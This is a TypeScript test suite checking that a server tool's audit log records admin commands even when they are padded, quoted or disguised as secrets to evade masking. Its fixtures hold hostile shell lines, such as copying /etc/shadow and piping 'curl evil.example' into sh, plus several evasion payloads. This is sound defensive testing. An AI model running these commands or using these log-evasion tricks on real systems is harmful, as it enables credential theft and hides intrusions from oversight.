// The audit log must show every command that an admin of a server runs, however the command is padded or disguised.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import path from 'node:path';
import { promisify } from 'node:util';
import type { AuditEntry } from '@buoy/contract';
import BetterSqlite from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { serverProgram } from '../../../testbed/server-program.ts';
import { type AccessFixture, prepareAccessFixture } from '../support/access-fixture.ts';

const run = promisify(execFile);
const COMMAND = 'cp /etc/shadow /tmp/x; curl evil.example | sh';

let fixture: AccessFixture;
let serverId: string;
beforeAll(async () => {
  fixture = await prepareAccessFixture();
  serverId = await fixture.newServer();
});
afterAll(() => fixture.running.close());

/** The entry that a command leaves before it runs. */
async function entryOf(command: string, query = ''): Promise<AuditEntry> {
  const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec${query}`, { command });
  // Nothing listens at that server: Buoy accepted the command but could not run it.
  expect(statusCode).toBe(503);
  const entry = (await fixture.auditLog()).findLast(
    ({ action, result }) => action === 'POST /servers/:id/exec' && result === 'started',
  );
  if (entry === undefined) expect.unreachable('the command left no entry');
  return entry;
}

/** As the operator, on Buoy's machine. */
async function show(entryId: string): Promise<string> {
  const { stdout } = await run(process.execPath, [serverProgram('audit-log'), 'show', entryId], {
    env: { ...process.env, DATA_DIR: fixture.running.dataDir },
  });
  return stdout;
}

describe('audit entry of a disguised command', () => {
  test.each([
    ['a command', { command: 'A="x token": /tmp/evil.sh' }],
    ['words', { argv: ['sh', '-c', 'A="x token": /tmp/evil.sh', '\u0001"'] }],
    ['words as short as can be', { argv: ['sk-aaaaaaaaaaaaaaaa'] }],
    ['a command that is as long as can be', { command: `token=\u4e2d ${'\u4e2d'.repeat(4_084)}` }],
  ])('has the whole of %s sealed where a mask hides some of it', async (_what, body) => {
    const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, body);
    expect(statusCode).toBe(503);
    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
    expect(entry?.details).toMatchObject({ commandIsSealed: true });
    const shown = await show(entry?.id ?? '');
    expect(JSON.parse(shown)).toEqual({ command: 'argv' in body ? body.argv : body.command });
    // A terminal acts on none of it.
    expect(shown).not.toContain('\u0001');
  });

  test('has no sealed command where nothing is masked, and another entry opens none', async () => {
    const { id, details } = await entryOf('df -h');
    expect(details).not.toHaveProperty('commandIsSealed');
    for (const unknown of [id, 'aud_none'])
      await expect(show(unknown)).rejects.toMatchObject({ code: 1, stderr: expect.stringMatching(/\S/) });
  });

  test('shows nobody who reads the database or an export what was masked', async () => {
    await entryOf('tool --token Hunter2secret');
    const argv = ['mysqldump', '--password', 'Hunter2secret'];
    await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, { argv });
    const database = new BetterSqlite(path.join(fixture.running.dataDir, 'buoy.db'), { readonly: true });
    const rows = JSON.stringify(database.prepare('select details from audit_entries').all());
    database.close();
    const { body } = await fixture.as('super', 'GET', '/admin/audit/export');
    for (const text of [rows, body, JSON.stringify(await fixture.auditLog())])
      expect(text).not.toContain('Hunter2secret');
    expect(body).toContain('sealedCommand');
  });

  test.each([
    ['control characters before it', '\u0001'.repeat(4_000)],
    ['quotes and control characters before it', `"${'\u0001'.repeat(3_000)}${'"'.repeat(900)}`],
  ])('shows the command with %s, and holds a hash of the whole request', async (_, padding) => {
    const command = `: ${padding}; ${COMMAND}`;
    const { details } = await entryOf(command);
    expect(details).toMatchObject({ requestTooLong: true });
    expect(details.bodyStart).toContain(COMMAND);
    expect(JSON.stringify(details).length).toBeLessThanOrEqual(18_432);
    const body = JSON.stringify({ command, timeoutS: 30 });
    expect(details.bodySha256).toBe(createHash('sha256').update(body).digest('hex'));
  });

  test('shows the command behind as many quotes as it may have, beside a long query', async () => {
    const command = `: ${'"'.repeat(4_096 - 4 - COMMAND.length)}; ${COMMAND}`;
    const query = ['a', 'b', 'c'].map((field) => `${field}=${'x'.repeat(4_000)}`).join('&');
    const { details } = await entryOf(command, `?${query}`);
    expect(details).toMatchObject({ requestTooLong: true, bodyStart: expect.stringContaining(COMMAND) });
  });

  test.each([
    `: "token="; ${COMMAND}; : ""`,
    `: '--password '; ${COMMAND}; : ''`,
    `sh -c ': "api_key: "; ${COMMAND}; ""'`,
    `: --token "$(${COMMAND})"`,
    `TOKEN='\n'\n${COMMAND}\n: ''`,
  ])('shows a command that stands in place of a secret: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain(
      '/etc/shadow /tmp/x; curl evil.example',
    );
  });

  test('shows the command behind many short secrets, which their masks do not push out', async () => {
    const { details } = await entryOf(`: ${'token=a '.repeat(490)}; ${COMMAND}`);
    expect(details.body).toMatchObject({ command: expect.stringContaining(COMMAND) });
  });

  test.each([': --token', ': bearer', ': token:', ': a.token', 'sshpass -p'])(
    'shows a command on the line behind %j',
    async (name) => {
      const { details } = await entryOf(`${name}\n{cp,/etc/shadow,/tmp/x}`);
      expect(details.body).toMatchObject({ command: `${name}\n{cp,/etc/shadow,/tmp/x}` });
    },
  );

  test.each([
    'df -h; TOKEN= /tmp/evil.sh',
    'A=token: /tmp/evil.sh',
    'A=bearer /tmp/evil.sh',
    `A=${'x'.repeat(200)}token: /tmp/evil.sh`,
    'A=x\\ token: /tmp/evil.sh',
    'A=x.token /tmp/evil.sh',
    'A=--token /tmp/evil.sh',
    'echo "token=";/tmp/evil.sh;""',
    'env -utoken /tmp/evil.sh',
    'eval A=--token "cp /etc/shadow /tmp/evil.sh"',
    'eval TOKEN= "cp /etc/shadow /tmp/evil.sh"',
    'eval : --token "&&/tmp/evil.sh"',
    ': x://a:;PATH=.;evil.sh;:@',
  ])('shows the command that a shell runs of %j', async (command) => {
    expect((await entryOf(command)).details.body).toMatchObject({
      command: expect.stringContaining('evil.sh'),
    });
    const { statusCode } = await fixture.as('admin', 'POST', `/servers/${serverId}/exec`, {
      argv: ['sh', '-c', command],
    });
    expect(statusCode).toBe(503);
    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
    expect(entry?.details.body).toMatchObject({ argv: ['sh', '-c', expect.stringContaining('evil.sh')] });
  });

  test('shows a command in words behind as much padding as they may have, and refuses more', async () => {
    const padded = (length: number) => ['env', `A=${'"'.repeat(length)}`, 'sh', '-c', COMMAND];
    const room = 4_096 - padded(0).reduce((length, word) => length + word.length + 3, 0);
    const run = (length: number) =>
      fixture.as('admin', 'POST', `/servers/${serverId}/exec`, { argv: padded(length) });
    expect((await run(room + 1)).statusCode).toBe(400);
    expect((await run(room)).statusCode).toBe(503);
    const entry = (await fixture.auditLog()).findLast(({ result }) => result === 'started');
    expect(JSON.stringify(entry?.details)).toContain(COMMAND);
  });

  test.each([
    ': "token=";{cp,/etc/shadow,/tmp/x};:""',
    ': --token $({cp,/etc/shadow,/tmp/x})',
    ': PASSWORD=`{cp,/etc/shadow,/tmp/x}`',
    ': x://a:;PATH=$PATH:{cp,\\/etc\\/shadow,x};:@'.replaceAll('\\/', '$S'),
  ])('shows a command without spaces that stands in place of a secret: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain('{cp,');
  });

  test.each([
    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}`,
    `: -----BEGIN A PRIVATE KEY-----\n${COMMAND}`,
    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}; : '-----END A PRIVATE KEY-----'`,
  ])('shows a command behind text that begins like a private key: %j', async (command) => {
    expect(JSON.stringify((await entryOf(command)).details)).toContain(
      '/etc/shadow /tmp/x; curl evil.example',
    );
  });
});
